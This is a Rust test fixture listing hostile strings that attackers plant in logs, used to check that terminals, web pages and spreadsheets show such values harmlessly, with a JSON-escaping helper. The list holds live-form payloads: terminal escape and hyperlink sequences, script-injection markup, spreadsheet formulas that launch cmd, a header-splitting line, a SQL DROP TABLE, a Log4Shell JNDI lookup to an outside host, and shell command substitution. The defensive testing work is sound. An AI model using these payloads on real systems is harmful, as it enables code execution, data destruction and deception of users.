//! Text that attackers put into logs, for tests of everything that shows a value to a person.

/// Strings that must come through storage unchanged and reach a terminal, a page or a spreadsheet
/// only in a harmless form: terminal escapes, markup, formulas, line breaks, directional overrides,
/// quotes of SQL and CSV, and what JSON must escape.
pub const HOSTILE_TEXTS: &[&str] = &[
    "\u{1b}[2J\u{1b}[1;1Hnothing to see",
    "\u{1b}]0;owned\u{7}aws-cli/2.15",
    "\u{1b}]8;;http://203.0.113.9/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://203.0.113.9/\",\"report\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "curl/8.5\r\nX-Forwarded-For: 10.0.0.1",
    "line one\nline two\tand a tab",
    "'; DROP TABLE trail; --",
    "a,\"b\"\",c;d|e",
    "${jndi:ldap://203.0.113.9/a}",
    "{{7*7}} %s %n $(id) `id`",
    "\u{202e}gpj.tpircs\u{202c} \u{200b}\u{feff}",
    "back\\slash \\u0000 and a real nul: \u{0}",
    "\u{1F525}\u{0301}e\u{301} \u{65E5}\u{672C}",
];

/// Returns a text as the inside of a JSON string.
pub(crate) fn escaped(text: &str) -> String {
    let quoted = serde_json::Value::from(text).to_string();
    quoted[1..quoted.len() - 1].to_owned()
}
